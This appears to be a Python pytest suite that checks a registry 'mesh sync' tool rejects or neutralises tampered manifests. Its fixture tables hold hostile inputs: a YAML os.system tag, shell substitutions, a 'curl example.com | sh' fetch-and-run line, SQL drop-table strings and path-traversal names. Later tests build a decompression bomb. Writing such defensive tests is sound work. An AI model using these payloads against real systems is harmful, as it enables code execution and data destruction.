"""`mesh sync` from a registry that others wrote to: a literal that means nothing more, or a clear error and no file."""

import hashlib
import json
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import click
import msgspec
import pytest
import yaml
import zstandard
from click.testing import Result

from registry_tools.artifacts.yaml_text import inert_key
from registry_tools.mesh.interface import read_interface
from registry_tools.registry import packing
from registry_tools.registry.directory import DirectoryStore
from registry_tools.registry.log import sealed
from registry_tools.registry.publications import Candidate, Registry
from tests import builders
from tests.builders import Json
from tests.cli.conftest import Commands
from tests.cli.test_sync import MESH, rendered

WAYS = ["sources", "loom", "package"]
# What Jinja, YAML, a terminal, SQL or a shell could take for more than text.
TEXTS = {
    "jinja-expression": "{{ env_var('SECRET') }}",
    "jinja-statement": "{% do run_query('drop table x') %}{%- raw -%}",
    "jinja-comment": "{# gone #}{{ '{{' }}",
    "yaml-tag": "!!python/object/apply:os.system ['touch owned']",
    "yaml-anchor": "&a *a <<: {x: 1}",
    "yaml-document": "a\n---\nb: c\n...\n",
    "yaml-key": 'x"\nevil: true\n# "',
    "escape": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "escape-of-8-bits": "\x9b2J\x85x",
    "forged-line": "fine\r\nerror: gone\n  next: curl example.com | sh",
    "right-to-left": "\u202egpj.exe\u2066",
    "nul": "a\x00b",
    "line-separators": "a\u2028b\u2029c",
    "sql": '"; drop table x; --',
    "shell": "$(touch owned) `touch owned`",
    "markup": "[bold red]x[/] [link=https://example.com]y[/link]",
}
# What a path, a key, a file system or a person could take for another name.
NAMES = {
    "up": "../../../owned",
    "absolute": "/etc/owned",
    "windows-up": "..\\..\\owned",
    "drive": "C:owned",
    "nul": "orders\x00",
    "line": "orders\n",
    "hidden": ".orders",
    "dots": "..",
    "device": "nul",
    "device-in-capitals": "CON",
    "look-alike": "\u043erders",
    "full-width": "\uff0e\uff0e\uff0fowned",
    "slash": "a/b",
    "division-slash": "a\u2215b",
    "escape": "\x1b[2J",
    "right-to-left": "\u202eorders",
    "zero-width": "or\u200bders",
    "jinja": "{{ x }}",
    "long": "o" * 300,
    "empty": "",
    "blank": " ",
    "percent": "%2e%2e%2fowned",
}


@dataclass(frozen=True)
class Hostile:
    """A consumer of mini, and the registry's files under somebody else's hands."""

    commands: Commands
    way: str

    @property
    def document(self) -> Json:
        """The interface as it was published honestly."""
        document: Json = json.loads(self._file("mini", "history/*/manifest.json").read_bytes())
        return document

    def forge(self, content: bytes) -> Result:
        """Sync from an interface of these bytes, everything about them recorded as it would be of honest ones."""
        self._file("mini", "history/*/manifest.json").write_bytes(content)
        try:
            digest = read_interface(content)[0].digest
        except (msgspec.DecodeError, UnicodeDecodeError, RecursionError):
            digest = "0" * 64
        self.record("mini", {"manifest.json": content}, digest=digest)
        return self.sync()

    def record(self, project: str, contents: dict[str, bytes], **changes: Any) -> None:
        """Bring the one record of a project to these files."""
        path = self._file(project, "log/*.json")
        record = json.loads(path.read_bytes())
        del record["seal"]
        promised = {name: {"size": len(c), "sha256": hashlib.sha256(c).hexdigest()} for name, c in contents.items()}
        path.write_bytes(sealed(json.dumps(record | {"files": record["files"] | promised} | changes).encode()))

    def sync(self) -> Result:
        """Run it, and see that nothing was written elsewhere, nothing at all after an error, and what was printed."""
        before = self.commands.snapshot()
        result = self.commands.sync()
        after = self.commands.snapshot()
        changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
        assert {path for path in changed if path != "down" and not path.startswith("down/")} == set()
        assert {path.name for path in self.commands.root.parent.iterdir()} <= {"work", "cache"}
        printed = click.unstyle(result.output)
        assert all(line.isprintable() for line in printed.split("\n")), printed
        assert result.exit_code in (0, 2, 3), printed
        if result.exit_code:
            assert changed == set()
            assert result.stderr.startswith("error: ")
            assert [line for line in printed.splitlines() if line.startswith("  next: ")] == [printed.splitlines()[-1]]
        return result

    def node(self) -> Json:
        """The node of the consumer's files: out of the YAML as dbt reads it, or of what dbt-loom reads."""
        if self.way == "loom":
            (node,) = json.loads((self.commands.down / ".mesh/loom/mini.json").read_bytes())["nodes"].values()
        elif self.way == "package":
            (path,) = (self.commands.down / "mesh_packages/mini/models").glob("*.yml")
            (node,) = rendered(yaml.safe_load(path.read_bytes()))["models"]
        else:
            document = rendered(yaml.safe_load((self.commands.down / "models/_mesh_mini.yml").read_bytes()))
            assert document.keys() == {"version", "sources"}
            (node,) = document["sources"][0]["tables"]
        assert isinstance(node, dict)
        return node

    def _file(self, project: str, pattern: str) -> Path:
        (path,) = Path(self.commands.registry).glob(f"{project}/prod/{pattern}")
        return path


@pytest.fixture(params=WAYS)
def hostile(commands: Commands, request: pytest.FixtureRequest) -> Hostile:
    (commands.root / "mesh.yml").write_text(MESH.replace("as: sources", f"as: {request.param}"))
    model = builders.public_model("orders", "mini", group="core")
    published = builders.interface(model, project="mini", groups=(builders.team(package_name="mini"),))
    _publish(commands, builders.candidate(published))
    return Hostile(commands, request.param)


def _publish(commands: Commands, candidate: Candidate) -> None:
    Registry(DirectoryStore(Path(commands.registry))).publish(candidate, lambda _current: None)


def _with(hostile: Hostile, change: Callable[[Json, Json], None]) -> bytes:
    """The interface with its node and its group changed."""
    document = hostile.document
    (node,), (group,) = document["nodes"].values(), document["groups"].values()
    change(node, group)
    return json.dumps(document).encode()


def test_what_was_published_honestly_syncs(hostile: Hostile) -> None:
    """Otherwise every refusal below would be one of the forger's own mistakes."""
    assert hostile.forge(_with(hostile, lambda _node, _group: None)).exit_code == 0
    assert hostile.node()["name"] == "orders"


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_text_is_a_literal_wherever_it_stands(hostile: Hostile, text: str) -> None:
    def change(node: Json, group: Json) -> None:
        node |= {"description": text, "tags": [text], "meta": {text: [text]}, "deprecation_date": text, "group": text}
        node["columns"]["id"] |= {"description": text, "data_type": text, "meta": {text: text}, "tags": [text]}
        node["columns"][text] = {"name": text}
        node["constraints"] = [{"type": text, "name": text, "columns": [text]}]
        group |= {"name": text, "description": text, "owner": {"name": text, "slack": text}}

    result = hostile.forge(_with(hostile, change))
    assert result.exit_code == 0, result.output
    node = hostile.node()
    assert str(node["description"]).endswith(text)
    if hostile.way != "loom":
        assert node["columns"][-1]["name"] == text
        assert node["config"]["meta"][inert_key(text)] == [text]


PARTS = ["name", "version", "package_name", "group", "alias", "schema", "database", "project"]


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
@pytest.mark.parametrize(
    ("hostile", "part"),
    [*(("sources", part) for part in PARTS), ("loom", "name"), ("loom", "project")],
    indirect=["hostile"],
)
def test_a_name_is_a_name_or_an_error(hostile: Hostile, part: str, name: str) -> None:
    def change(node: Json, group: Json) -> None:
        if part in ("schema", "database", "alias"):
            parts = {"database": "PROD", "schema": "MARTS", "alias": "ORDERS"} | {part: name}
            node |= parts | {"relation_name": ".".join(f'"{each}"' for each in parts.values())}
        elif part == "group":
            node["group"] = group["name"] = name
        elif part != "project":
            node[part] = name
            version = "" if node["version"] is None else f".v{node['version']}"
            node |= {"unique_id": f"model.{node['package_name']}.{node['name']}{version}"}

    document = json.loads(_with(hostile, change))
    if part == "project":
        document["metadata"]["project_name"] = name
    result = hostile.forge(json.dumps(document).encode())
    free = part in ("group", "alias", "schema", "database")  # these are texts in the consumer's files and no more
    taken = free or (part, name) in {("name", NAMES[kind]) for kind in ("look-alike",)} or _is_version(part, name)
    assert (result.exit_code == 0) == taken or (free and result.exit_code == 3), result.output


def _is_version(part: str, name: str) -> bool:
    return part == "version" and name in (".orders", "..", "nul", "CON", "\u043erders", " ", "")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\x00",
        b"\xef\xbb\xbf{}",
        b"[" * 100_000,
        b'{"nodes": ' * 20_000,
        b'{"metadata": {"project_name": "mini", "adapter_type": "snowflake", "mesh": {"x": NaN}}, "nodes": {}}',
        b'{"metadata": {"project_name": "mini", "adapter_type": "snowflake", "mesh": {"x": -Infinity}}}',
        b'{"metadata": {"project_name": "mini\xff", "adapter_type": "", "mesh": {}}, "nodes": {}, "groups": {}}',
        b'{"metadata": {"project_name": "mini", "adapter_type": "\\ud800", "mesh": {}}, "nodes": {}, "groups": {}}',
        b'{"metadata": 1, "nodes": {}, "groups": {}}',
        b'{"metadata": {"project_name": ["mini"], "adapter_type": "", "mesh": {}}, "nodes": {}, "groups": {}}',
    ],
    ids=["empty", "nul", "mark", "deep", "deep-keys", "nan", "infinity", "no-utf-8", "half", "number", "list"],
)
def test_a_document_that_is_none_is_an_error_of_the_registry(hostile: Hostile, content: bytes) -> None:
    assert hostile.forge(content).exit_code == 3


@pytest.mark.parametrize(
    "change",
    [
        {"columns": [1]},
        {"columns": {"id": {"name": {}}}},
        {"meta": {"mesh": {"loaded_at_field": {}}}},
        {"meta": {"x": float("nan")}},
        {"tags": "x"},
        {"constraints": {}},
        {"depends_on": {"nodes": [1]}},
        {"version": [1]},
        {"config": {"mesh": {"tests": {"id": ["unique", "{{ x }}"]}}}},
        {"relation_name": "A.B.C; drop table x"},
    ],
    ids=str,
)
def test_a_node_of_other_types_is_an_error_of_the_registry(hostile: Hostile, change: Json) -> None:
    assert hostile.forge(_with(hostile, lambda node, _group: node.update(change))).exit_code == 3


def test_a_number_that_is_too_large_for_anything_is_a_literal_or_an_error(hostile: Hostile) -> None:
    content = _with(hostile, lambda node, _group: node["meta"].update(n="HUGE"))
    for number in (b"1e400", b"9" * 5_000, b"-0.0", b"1e-400"):
        hostile.forge(content.replace(b'"HUGE"', number))


def test_of_a_key_that_stands_twice_one_is_taken_throughout(hostile: Hostile) -> None:
    honest = json.dumps(hostile.document).encode()
    twice = honest.replace(b'"access": "public"', b'"name": "../../x", "name": "orders", "access": "public"', 1)
    assert hostile.forge(twice).exit_code in (0, 3)


def test_meta_as_deep_as_it_gets_is_a_literal_or_an_error(hostile: Hostile) -> None:
    content = _with(hostile, lambda node, _group: node["meta"].update(deep="DEEP"))
    for depth in (50, 150, 400, 900, 5_000):
        hostile.forge(content.replace(b'"DEEP"', b"[" * depth + b"]" * depth))


@pytest.mark.parametrize("hostile", ["sources"], indirect=True)
@pytest.mark.parametrize(
    "text", [TEXTS[kind] for kind in ("escape", "escape-of-8-bits", "forged-line", "jinja-expression")]
)
@pytest.mark.parametrize("field", ["publication", "current", "time", "digest", "op", "reason", "actor", "files"])
def test_a_record_of_any_text_is_taken_or_an_error(hostile: Hostile, field: str, text: str) -> None:
    actor = {"repository": text, "ref": text, "account": text}
    files = {"manifest.json": {"size": 1, "sha256": text}}
    change: Json = {"actor": actor, "files": files}
    hostile.record("mini", {}, **{field: change.get(field, text)})
    assert (hostile.sync().exit_code == 0) == (field in ("reason", "actor"))
    for command in ("history", "show"):
        printed = click.unstyle(hostile.commands.run(command, "mini@prod").output)
        assert all(line.isprintable() for line in printed.split("\n")), printed
        as_json = hostile.commands.run(command, "mini@prod", "--format", "json").output
        assert all(line.isprintable() for line in as_json.split("\n")), as_json


@pytest.fixture
def own_state(hostile: Hostile) -> Callable[[bytes], Result]:
    """Sync with the consumer's own published state replaced by these bytes."""
    _publish(hostile.commands, builders.candidate(builders.interface(project="reader"), state=b"{}"))

    def sync(content: bytes) -> Result:
        (path,) = Path(hostile.commands.registry).glob("_private/reader/prod/*")
        path.write_bytes(content)
        hostile.record("reader", {"state.json.zst": content})
        return hostile.sync()

    return sync


@pytest.mark.parametrize("told", [True, False], ids=["told", "untold"])
def test_a_bomb_is_an_error_and_is_not_unpacked(
    own_state: Callable[[bytes], Result], monkeypatch: pytest.MonkeyPatch, *, told: bool
) -> None:
    monkeypatch.setattr(packing, "_MAX_UNPACKED", 1 << 20)
    compressor = zstandard.ZstdCompressor(write_content_size=told)
    bomb = compressor.compress(b" " * (1 << 26))
    assert len(bomb) < 1 << 14
    tracemalloc.start()
    try:
        assert own_state(bomb).exit_code == 3
        assert tracemalloc.get_traced_memory()[1] < 1 << 24
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("content", [b"", b"{}", zstandard.compress(b"[]"), zstandard.compress(b'{"nodes": 1}')])
def test_a_state_that_is_none_is_an_error(own_state: Callable[[bytes], Result], content: bytes) -> None:
    assert own_state(content).exit_code == 3
